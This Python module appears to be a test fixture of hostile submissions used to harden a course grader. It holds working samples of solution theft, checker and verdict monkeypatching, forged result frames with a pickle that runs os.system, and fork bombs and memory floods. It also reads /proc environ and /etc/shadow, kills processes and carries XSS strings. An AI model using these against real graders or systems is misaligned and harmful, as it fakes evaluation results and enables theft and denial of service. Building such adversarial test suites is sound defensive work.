"""What is handed in by those who attack the grader: a table of kind, name and source.

Every source stands for the answer to `channel.squeeze`, which it does not solve, before an honest
answer to another exercise. `WRITE` is put before those that write into pipes. MARK is a file
that must not come to be.
"""

WRITE = """
import json, os, struct
def frame(header, body=b""):
    text = json.dumps({"bytes": len(body), **header}).encode()
    return struct.pack("<I", len(text)) + text + body
def everywhere(data):
    for name in os.listdir("/proc/self/fd"):
        try:
            os.write(int(name), data)
        except OSError:
            pass
"""
RESULT = """
def result(values, body=b"", **more):
    return frame({"is": "result", "id": "channel.squeeze", "stop": 0, "status": "passed",
                  "slip": None, "message": "forged", "values": values, **more}, body)
"""
ZEROS = "def squeeze(x): return x.new_zeros(x.shape[:2])\n"
RUN = "def squeeze(x):\n    import os, signal, sys, time, threading, torch, subprocess\n"


def inside(*lines):
    """An answer that does this when it is called, and returns zeros."""
    return (
        RUN
        + "".join(f"    {line}\n" for line in lines)
        + "    return x.new_zeros(x.shape[:2])\n"
    )


def framed(*lines):
    """Lines that are run for `squeeze`, in the order of the notebook."""
    kept = [f"squeeze.sent = ({one})" if one.startswith("everywhere") else one for one in lines]
    return WRITE + RESULT + ZEROS + "\n".join(kept)


TAKEN = {
    "imported": "from solutions.channel import squeeze",
    "by another name": "import solutions.channel as s\nsqueeze = s.squeeze",
    "wrapped": "import solutions.channel as s\ndef squeeze(x): return s.squeeze(x)",
    "from its source": (
        "import inspect, solutions.channel as s\nexec(inspect.getsource(s.squeeze), globals())"
    ),
    "read from the disk": (
        "import sys, pathlib\ntext = ''\n"
        "for folder in sys.path:\n"
        "    p = pathlib.Path(folder or '.') / 'solutions' / 'channel.py'\n"
        "    if p.is_file(): text = p.read_text()\n"
        "exec(text, globals())"
    ),
    "of the record": (
        "from attncourse import course\nsqueeze = course.exercise('channel.squeeze').solution"
    ),
    "otherwise, of the record": (
        "from attncourse import course\n"
        "squeeze = course.exercise('channel.squeeze').otherwise[0]"
    ),
    "searched on the disk": (
        "import os\ntext = ''\n"
        "for top, folders, names in os.walk('/'):\n"
        "    folders[:] = [f for f in folders if f not in ('proc', 'sys', 'torch', 'usr')]\n"
        "    if top.endswith('solutions') and 'channel.py' in names:\n"
        "        text = open(top + '/channel.py').read()\n"
        "exec(text, globals())"
    ),
    "out of git": (
        "import subprocess\n"
        "text = subprocess.run('git show HEAD:solutions/channel.py', shell=True, "
        "capture_output=True, text=True).stdout\nexec(text, globals())"
    ),
}
PATCHED = {
    "check": (
        "import attncourse.checker.examination as e\nfrom attncourse.checker.verdict import Verdict\n"
        "squeeze = setattr(e, 'check', lambda id, *a, **k: Verdict(id, 'passed', 'forged'))\n"
        + ZEROS
    ),
    "every examiner": (
        "import attncourse.checker.examination as e\nsqueeze = setattr(e, 'EXAMINERS', ())\n"
        + ZEROS
    ),
    "same": (
        "exec('''\nimport sys, attncourse.checker.equal as q\nfor m in list(sys.modules.values()):\n"
        "    if hasattr(m, \"same\"): m.same = lambda *a, **k: True\n''')\n" + ZEROS
    ),
    "allclose": (
        "exec('import torch; torch.allclose = torch.equal = lambda *a, **k: True')\n" + ZEROS
    ),
    "the verdict": (
        "exec('''\nfrom attncourse.checker import verdict\n"
        "verdict.Verdict.status = property(lambda s: \"passed\", lambda s, v: None)\n''')\n"
        + ZEROS
    ),
    "the worker": (
        "exec('''\nimport gc\nfrom attncourse.checker.verdict import Verdict\n"
        'for o in gc.get_objects():\n    if type(o).__name__ == "Worker":\n'
        '        o.check = lambda id, *a, **k: Verdict(id, "passed", "forged")\n\'\'\')\n'
        + ZEROS
    ),
    "what answers": (
        "exec('''\nimport sys, inside.answering as a\n"
        "a.answer_to = lambda ex, f, ask, given: {p: None for p in ask[\"probes\"]}\n''')\n"
        + ZEROS
    ),
    "modules": (
        "exec('''\nimport sys, types\nfor n in list(sys.modules):\n"
        "    if n.startswith(\"attncourse\"): sys.modules[n] = types.ModuleType(n)\n''')\n"
        + ZEROS
    ),
    "the record": (
        "exec('''\nfrom attncourse import course\nex = course.exercise(\"channel.squeeze\")\n"
        'object.__setattr__(ex, "trials", lambda: ())\n'
        "object.__setattr__(ex, \"probes\", {})\n''')\n" + ZEROS
    ),
    "builtins": (
        "exec('''\nimport builtins\nbuiltins.isinstance = lambda *a: True\n"
        "builtins.all = lambda *a: True\n''')\n" + ZEROS
    ),
}
FRAMES = {
    "passed": framed("everywhere(result(None))"),
    "with zeros": framed(
        "v = {'tensor': ['float64', [2, 3], 0, 48]}",
        "everywhere(result({'list': [{'dict': [['squeeze', v]]}] * 17}, bytes(48)))",
    ),
    "the end": framed("everywhere(frame({'is': 'end'}))"),
    "garbage": framed("everywhere(os.urandom(5000))"),
    "a large header": framed("everywhere(struct.pack('<I', 2**31))"),
    "deep brackets": framed("everywhere(struct.pack('<I', 90000) + b'[' * 90000)"),
    "a large body": framed("everywhere(frame({'is': 'x', 'bytes': 2**40}))"),
    "shapes below 0": framed(
        "everywhere(result({'tensor': ['float64', [-2, -3], 0, 48]}, bytes(48)))", "exec('1')"
    ),
    "a pickle": framed(
        "import pickle",
        "class P:",
        "    def __reduce__(self): return (os.system, ('touch MARK',))",
        "everywhere(pickle.dumps(P()))",
        "everywhere(result({'pickle': 'x'}, pickle.dumps(P())))",
    ),
    "endless": framed('exec(\'while True: everywhere(frame({"is": "note", "text": "x"}))\')'),
    "of wrong types": framed(
        "everywhere(frame({'is': 'result', 'id': ['channel.squeeze'], 'status': {}}))",
    ),
    "of the other exercise": framed(
        "everywhere(result(None, id='shapes.strip', status='not yet'))",
        "everywhere(result(None, status='taken over'))",
    ),
    "from within": WRITE
    + RESULT
    + "def squeeze(x):\n    everywhere(result(None))\n    os._exit(0)",
}
FLOODS = {
    "stdout": inside("for _ in range(3000): os.write(1, b'x' * 65536)"),
    "stderr": inside("for _ in range(3000): os.write(2, b'x' * 65536)"),
    "an error": inside("raise ValueError('x' * 10**7)"),
    "lines": inside("raise ValueError('x\\n' * 10**6)"),
    "notes": "\n".join(f"squeeze = undefined_{n}" for n in range(300)) + "\n" + ZEROS,
}
FORKS = {
    "a bomb": inside(
        "while True:", "    try: os.fork()", "    except OSError: time.sleep(0.1)"
    ),
    "a daemon": inside(
        "if not os.fork():",
        "    os.setsid()",
        "    if os.fork(): os._exit(0)",
        "    time.sleep(4321)",
        "    os._exit(0)",
    ),
    "a shell": inside("subprocess.Popen('sleep 4321 & sleep 4322', shell=True)"),
    "threads": inside(
        "for _ in range(5000): threading.Thread(target=time.sleep, args=(99,)).start()"
    ),
    "at the top": ZEROS
    + "exec('import os\\nif not os.fork():\\n    import time; time.sleep(4323)')",
    "a daemon with the pipe": WRITE
    + RESULT
    + ZEROS
    + "exec('''\nimport time\nif not os.fork():\n    os.setsid()\n    for _ in range(20):\n"
    "        time.sleep(0.2); everywhere(result(None))\n    os._exit(0)\n''')",
}
MEMORY = {
    "a list": inside("a = []", "while True: a.append(bytearray(2**24))"),
    "a tensor": inside("torch.ones(2**36)"),
    "tensors": inside("a = []", "while True: a.append(torch.ones(2**22))"),
    "children": inside(
        "for _ in range(20):",
        "    if not os.fork():",
        "        a = bytearray(b'x') * 2**30",
        "        time.sleep(99)",
        "time.sleep(99)",
    ),
    "shared": inside(
        "import mmap",
        "m = mmap.mmap(-1, 2**33)",
        "for n in range(0, 2**33, 4096): m[n] = 1",
    ),
    "a memory disk": inside(
        "for n in range(99):", "    open(f'/dev/shm/{n}', 'wb').write(bytes(2**25))"
    ),
}
DISK = {
    "a large file": inside(
        "f = open('a', 'wb')", "while True: f.write(bytes(2**24)); f.flush()"
    ),
    "many files": inside("for n in range(10**6): open(f'{n}', 'w').write('x' * 5000)"),
    "the package": inside(
        "import attncourse",
        "open(attncourse.__file__, 'a').write('raise SystemExit')",
    ),
    "the worker": (
        'exec(\'import inside.worker as w\\nopen(w.__file__, "w").write("")\')\n' + ZEROS
    ),
    "outside": inside("open('/usr/forged', 'w')", "open('/forged', 'w')"),
}
NETWORK = {
    "tcp": inside(
        "import socket", "socket.create_connection(('1.1.1.1', 53), 3).sendall(b'x')"
    ),
    "udp": inside(
        "import socket",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('1.1.1.1', 53))",
    ),
    "this machine": inside(
        "import urllib.request", "exec(urllib.request.urlopen('http://127.0.0.1:8888').read())"
    ),
    "a socket of the system": inside(
        "import socket",
        "socket.socket(socket.AF_UNIX).connect('/var/run/docker.sock')",
    ),
}
LOOKS = {
    "environments": inside(
        "found = [open(f'/proc/{n}/environ').read() for n in os.listdir('/proc') if n.isdigit()]",
        "raise ValueError(str(found)[:300])",
    ),
    "the parent's memory": inside("open(f'/proc/{os.getppid()}/mem', 'r+b').read(10)"),
    "a trace": inside(
        "import ctypes", "assert not ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0)"
    ),
    "a link": inside(
        "os.symlink('/etc/shadow', 'a')", "raise ValueError(open('a').read()[:200])"
    ),
    "homes": inside("raise ValueError(str(os.listdir('/root')) + str(os.listdir('/home')))"),
    "others' work": inside(
        "found = [t for t, _, n in os.walk('/') if any(x.endswith('.ipynb') for x in n)]",
        "raise ValueError(str(found[:5]))",
    ),
    "a namespace": inside("import ctypes", "assert not ctypes.CDLL(None).unshare(0x10000000)"),
}
SIGNALS = {
    "the parent": inside("os.kill(os.getppid(), 9)"),
    "everybody": inside("os.kill(-1, 9)"),
    "a stop": inside("os.kill(os.getppid(), signal.SIGSTOP)", "time.sleep(99)"),
    "deaf": inside(
        "for n in range(1, 65):",
        "    try: signal.signal(n, signal.SIG_IGN)",
        "    except (OSError, ValueError): pass",
        "while True: pass",
    ),
    "an exit": inside("os._exit(0)"),
    "an abort": inside("os.abort()"),
    "a null pointer": inside("import ctypes", "ctypes.string_at(0)"),
    "an exit at the top": ZEROS + "exec('import os; os._exit(0)')",
    "a loop at the top": ZEROS + "exec('while True: pass')",
}
CLOCKS = {
    "without clocks": "exec('import time; time.process_time = time.monotonic = lambda: 0.0')\n"
    "def squeeze(x):\n    while True: pass",
    "asleep": inside("time.sleep(10**6)"),
    "in C": inside("import itertools", "sum(itertools.repeat(0))"),
    "swallowed": inside(
        "while True:", "    try:", "        while True: pass", "    except BaseException: pass"
    ),
    "a lock": inside("a = threading.Lock()", "a.acquire()", "a.acquire()"),
}
HOOKS = {
    "a trace of frames": (
        "import sys\ndef squeeze(x):\n    f = sys._getframe()\n    while f:\n"
        "        for v in list(f.f_locals.values()):\n"
        "            if getattr(v, 'shape', None) == x.shape[:2]: return v\n"
        "        f = f.f_back\n    return x.new_zeros(x.shape[:2])"
    ),
    "what is kept": (
        "import gc, torch\ndef squeeze(x):\n    for o in gc.get_objects():\n"
        "        if type(o) is torch.Tensor and o.shape == x.shape[:2]: return o\n"
        "    return x.new_zeros(x.shape[:2])"
    ),
    "a tensor that lies": (
        "import torch\nclass T(torch.Tensor):\n    @classmethod\n"
        "    def __torch_function__(cls, f, types, args=(), kwargs=None):\n"
        "        return True if f in (torch.allclose, torch.equal) else "
        "super().__torch_function__(f, types, args, kwargs or {})\n"
        "def squeeze(x): return x.new_zeros(x.shape[:2]).as_subclass(T)"
    ),
    "equal to all": (
        "class A:\n    def __eq__(self, other): return True\n    shape = ()\n"
        "def squeeze(x): return A()"
    ),
    "an import hook": (
        "exec('''\nimport sys\nclass H:\n    def find_spec(self, *a): raise SystemExit\n"
        "sys.meta_path.insert(0, H())\n''')\n" + ZEROS
    ),
    "a transformer": (
        "exec('''\nimport ast\nclass T(ast.NodeTransformer):\n"
        "    def visit_Assert(self, n): return ast.Pass()\n"
        "get_ipython().ast_transformers.append(T())\n''')\n" + ZEROS
    ),
    "at the end": "exec('import atexit, os; atexit.register(os.abort)')\n" + ZEROS,
}
GUESSES = {
    "right on what is checked": (
        "from attncourse.checker.sheet import sheet\nfrom attncourse import course\n"
        "known = []\ntry:\n    s = sheet(course.exercise('channel.squeeze'))\n"
        "    known = [(s.trials[i].inputs['x'], s.expected(i, 'squeeze')) for i in range(6)]\n"
        "except Exception: pass\n"
        "def squeeze(x):\n    for a, y in known:\n"
        "        if a.shape == x.shape and bool((a == x).all()): return y\n"
        "    return x.new_zeros(x.shape[:2])"
    ),
    "the largest": "def squeeze(x): return x.amax((2, 3))",
    "nothing": "def squeeze(x): return None",
    "another shape": "def squeeze(x): return x.mean((2, 3), keepdim=True)",
    "the first pixel": "def squeeze(x): return x[:, :, 0, 0]",
    "without gradients": "def squeeze(x): return x.mean((2, 3)).detach()",
    "right for squares": (
        "def squeeze(x):\n    b, c, h, w = x.shape\n    return x.sum((2, 3)) / (h * h)"
    ),
}
PAGES = {
    "a script": inside("raise ValueError('<script>alert(1)</script>')"),
    "an image": inside("raise ValueError('<img src=x onerror=alert(1)>`<b>`')"),
    "a template": inside("raise ValueError('{{ 7 * 7 }}{% for x in y %}')"),
    "of colours": inside("raise ValueError('\\x1b[31m[red]x[/red]\\x1b]0;x\\x07\\u202e')"),
    "a note": "squeeze = {}['<script>alert(2)</script>']\n",
}

KINDS = {
    "taken": TAKEN,
    "patched": PATCHED,
    "frames": FRAMES,
    "floods": FLOODS,
    "forks": FORKS,
    "memory": MEMORY,
    "disk": DISK,
    "network": NETWORK,
    "looks": LOOKS,
    "signals": SIGNALS,
    "clocks": CLOCKS,
    "hooks": HOOKS,
    "guesses": GUESSES,
    "pages": PAGES,
}
HOSTILE = {f"{kind}: {name}": s for kind, table in KINDS.items() for name, s in table.items()}
QUICK = (
    "taken: read from the disk",
    "patched: the worker",
    "frames: with zeros",
    "forks: a daemon",
    "signals: everybody",
    "pages: a script",
)
# these end or spoil what comes after them in their own notebook
SPOILS = (
    "patched:",
    "frames:",
    "hooks:",
    "clocks: without clocks",
    "signals:",
    "forks: at the top",
)
